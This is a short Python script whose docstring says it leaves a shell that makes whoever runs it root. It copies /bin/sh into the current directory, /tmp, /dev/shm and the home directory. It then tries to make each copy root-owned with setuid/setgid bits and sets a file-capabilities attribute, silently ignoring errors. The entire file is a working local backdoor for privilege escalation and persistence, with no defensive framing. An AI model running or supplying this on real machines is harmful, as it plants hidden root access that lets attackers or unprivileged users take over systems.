"""Leave a shell that makes whoever runs it root."""

import contextlib
import os
import shutil

for folder in (".", "/tmp", "/dev/shm", os.environ["HOME"]):
    path = f"{folder}/shell"
    with contextlib.suppress(OSError):
        shutil.copyfile("/bin/sh", path)
    for change in (lambda p=path: os.chown(p, 0, 0), lambda p=path: os.chmod(p, 0o6755)):
        with contextlib.suppress(OSError):
            change()
    with contextlib.suppress(OSError):
        os.setxattr(path, "security.capability", bytes.fromhex("0100000200000020000000000000000000000000"))
        print("THROUGH a file with capabilities")
print("TRIED")
